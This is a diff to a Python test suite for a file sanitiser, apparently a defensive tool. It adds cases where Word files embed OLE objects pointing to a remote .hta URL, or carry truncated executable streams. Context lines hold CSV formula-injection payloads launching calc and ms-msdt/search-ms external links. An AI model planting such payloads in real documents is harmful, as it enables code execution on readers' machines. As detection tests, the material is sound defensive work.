@@ -56,6 +56,19 @@ def related(kind: str, target: str, more: str = "") -> bytes:
     return office(**{"word/_rels/document.xml.rels": relation})
 
 
+ADDRESS = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + "https://a.example.org/b.hta".encode("utf-16-le")
+
+
+def holding(data: bytes) -> bytes:
+    """Return a Word document in which an object lies."""
+    return office(**{"word/embeddings/oleObject1.bin": data})
+
+
+def of_streams(**named: bytes) -> bytes:
+    """Return an object with these streams, whose names begin with a sign that nobody types."""
+    return compound({f"\1{name}": content.ljust(4096, b"\0") for name, content in named.items()})
+
+
 FILM = (
     b'<d xmlns:draw="d" xmlns:x="x"><draw:plugin x:href="Media/KEPT.mp4" '
     b'draw:mime-type="application/vnd.sun.star.media"/></d>'
@@ -113,6 +126,12 @@ FILM = (
         ("a.docx", related("oleObject", " file:////server/a>b", 'TargetMode="External"')),
         ("a.docx", related("oleObject", "search-ms:query=a", 'TargetMode="External"')),
         ("a.docx", related("image", "ms-msdt:/id", 'TargetMode="External"')),
+        ("a.docx", holding(of_streams(Ole=bytes(24) + ADDRESS))),
+        ("a.doc", compound({"WordDocument": bytes(4096), "\1OLE": ADDRESS.ljust(4096, b"\0")})),
+        *(("a.docx", holding(spoilt)) for spoilt in (
+            of_streams(Ole10Native=b"MZ")[:-1000], of_streams(OLE10native=b"MZ")[:-1000],
+            of_streams(Ole=ADDRESS)[:-1000],
+        )),
         ("a.csv", b"a,\"=cmd|'/c calc'!A0\"\n"),
         ("a.csv", "甲,＝cmd｜'/c calc'！A0\n".encode()),
         ("a.csv", "甲\n＋cmd|'/c calc'!A0\n".encode("gb18030")),
@@ -155,6 +174,8 @@ def test_what_starts_something_is_refused(name: str, data: bytes) -> None:
         ("a.csv", "ID;Phone;Ende\nC;2;甲\n1;－5;＝1+1\n".encode()),
         ("a.csv", b'sep=|\na|=1+1|"-\n5"\n'),
         ("a.xlsx", sheet('DISPIMG("ID_1",1)')),
+        ("a.docx", holding(of_streams(Ole=bytes(4096)))),
+        ("a.docx", holding(of_streams(CompObj=b"Word", Ole=bytes(4096))[:-1000])),
         ("a.odp", open_document("presentation", **{"content.xml": FILM})),
     ],
 )
@@ -334,6 +355,13 @@ _PARTS_OF_EACH = {
     "a.xlsx": ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels"),
     "a.odt": ("settings.xml", "content.xml", "VersionList.xml", "META-INF/manifest.xml"),
 }
+
+
+def test_a_spoilt_document_in_an_archive_is_refused_for_what_it_seems_to_hold() -> None:
+    """Word still opens what our reader does not."""
+    spoilt = compound({"Macros": bytes(4096), "WordDocument": bytes(4096)})[:-1000]
+    with pytest.raises(Unclean, match=r"a\.dot.*打不开来检查"):
+        clean_bytes(zipped({"a.dot": spoilt}), "a.zip")
 
 
 @table(
